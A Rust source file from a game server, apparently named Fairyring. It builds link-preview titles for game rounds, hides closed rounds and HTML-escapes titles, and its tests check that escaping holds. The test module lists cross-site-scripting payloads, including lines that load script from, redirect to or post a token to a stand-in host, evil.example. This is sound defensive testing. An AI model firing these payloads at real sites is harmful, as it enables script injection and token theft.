//! The words that a messenger shows for the link of a round. Looking at a link takes no chair: its secret is in the fragment, which is
//! never sent.

use round::{RoundId, Visibility};
use rules::Side;

use crate::app::App;

/// The title of a round; nothing for one that is not there or that only its players may see. Names only where everybody may look.
pub(crate) async fn title(app: &App, id: &str) -> Option<String> {
    let online = app.online.as_ref()?;
    let (_, known) = online.load(RoundId::read(id)?).await.ok()?;
    let terms = known.round.terms();
    let game = catalog::find(&terms.game).ok()?.info.name;
    match terms.visibility {
        Visibility::Closed => None,
        Visibility::Unlisted => Some(game.to_owned()),
        Visibility::Listed => {
            let name = |side| {
                let holder = known.round.chairs().of(side).holder.as_ref();
                let name = holder
                    .map(|holder| holder.name.as_ref())
                    .unwrap_or_default();
                if name.is_empty() { "?" } else { name }
            };
            Some(format!(
                "{game}: {} – {}",
                name(Side::First),
                name(Side::Second)
            ))
        }
    }
}

/// The five characters that mean something in a page.
pub(crate) fn escaped(text: &str) -> String {
    let mut safe = String::with_capacity(text.len());
    for character in text.chars().take(200) {
        match character {
            '&' => safe.push_str("&amp;"),
            '<' => safe.push_str("&lt;"),
            '>' => safe.push_str("&gt;"),
            '"' => safe.push_str("&quot;"),
            '\'' => safe.push_str("&#39;"),
            other => safe.push(other),
        }
    }
    safe
}

/// The page as it is sent under a longer address: its files are named from where the page lies, which is the root here.
pub(crate) fn rooted(page: &str) -> String {
    page.replace("=\"./", "=\"/")
}

/// The page with a title of its own.
pub(crate) fn titled(page: &str, title: &str) -> String {
    let title = escaped(title);
    let head = format!(
        "<title>{title} · Fairyring</title><meta property=\"og:title\" content=\"{title}\">"
    );
    match (page.find("<title>"), page.find("</title>")) {
        (Some(begin), Some(end)) if begin < end => {
            let end = end + "</title>".len();
            let (before, after) = (page.get(..begin), page.get(end..));
            format!(
                "{}{head}{}",
                before.unwrap_or_default(),
                after.unwrap_or_default()
            )
        }
        _ => page.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn files_are_found_from_a_longer_address() {
        let page = r#"<script src="./assets/a.js"></script><link href="./b.css"><a href="x./y">"#;
        let found = rooted(page);
        assert_eq!(
            found,
            r#"<script src="/assets/a.js"></script><link href="/b.css"><a href="x./y">"#
        );
    }

    /// What words try to be: elements, ends of them, attributes, references, comments, and letters that look like them.
    const BEGINNINGS: [&str; 10] = [
        "", "</title>", "\">", "'>", "-->", "&lt;", "&#60;", "\u{0}", "\u{202e}", "\r\n\r\n",
    ];
    const PAYLOADS: [&str; 21] = [
        "<script>alert(1)</script>",
        "<script src=//evil.example/a.js>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>*{background:url(//evil.example)}</style>",
        "<a href=javascript:alert(1)>x</a>",
        "<form action=//evil.example><input name=token>",
        "<body onload=alert(1)>",
        "<!-- x -->",
        "<![CDATA[x]]>",
        "\" onload=\"alert(1)",
        "' onload='alert(1)",
        "` onload=`alert(1)",
        "&#x3c;script&#x3e;",
        "{{constructor.constructor('alert(1)')()}}",
    ];

    /// S38: words of a round in the head of its page; 210 of them that try to be more than words.
    #[test]
    fn s38_nothing_in_a_title_becomes_part_of_the_page() {
        let page = "<html><head><title>Fairyring</title></head></html>";
        for word in BEGINNINGS
            .iter()
            .flat_map(|begin| PAYLOADS.map(|payload| format!("{begin}{payload}")))
        {
            let made = titled(page, &word);
            // One element more than before, with its two attributes, whatever the words are.
            for (letter, more) in [('<', 1), ('>', 1), ('"', 4)] {
                let wanted = page.matches(letter).count() + more;
                assert_eq!(made.matches(letter).count(), wanted, "{made}");
            }
            assert_eq!(made.matches('\'').count(), 0, "{made}");
            // No reference to a letter but those that were put there.
            let references = made.split('&').skip(1);
            for reference in references {
                let known = ["amp;", "lt;", "gt;", "quot;", "#39;"];
                assert!(known.iter().any(|one| reference.starts_with(one)), "{made}");
            }
        }
        assert_eq!(titled("no title", "x"), "no title");
        assert!(titled(page, "Xiangqi").contains("<title>Xiangqi · Fairyring</title>"));
    }
}
